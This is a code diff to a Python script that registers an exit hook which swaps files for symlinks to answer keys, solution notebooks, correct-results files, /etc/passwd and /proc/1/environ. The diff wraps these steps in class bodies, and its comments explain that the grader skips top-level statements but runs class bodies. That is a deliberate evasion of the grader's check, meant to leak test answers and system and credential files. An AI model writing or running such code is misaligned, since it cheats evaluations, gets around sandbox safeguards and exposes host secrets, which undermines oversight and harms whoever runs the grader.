@@ -8,13 +8,20 @@ import glob
 import json
 import os
 
-TARGETS = (
-    "__KEYS__/cls_test.csv",
-    "__REPO__/solutions/hw2p2_source.ipynb",
-    "__OUT__/correct/results.json",
-    "/etc/passwd",
-    "/proc/1/environ",
-)
+
+def _attack():
+    global TARGETS
+    TARGETS = (
+        "__KEYS__/cls_test.csv",
+        "__REPO__/solutions/hw2p2_source.ipynb",
+        "__OUT__/correct/results.json",
+        "/etc/passwd",
+        "/proc/1/environ",
+    )
+
+
+class _Armed:  # top-level statements are skipped by the grader; a class body runs
+    _attack()
 
 
 def swap():
@@ -34,4 +41,9 @@ def swap():
                 os.symlink(TARGETS[number % len(TARGETS)], path)
 
 
-atexit.register(swap)
+def _attack1():
+    atexit.register(swap)
+
+
+class _Armed1:  # top-level statements are skipped by the grader; a class body runs
+    _attack1()
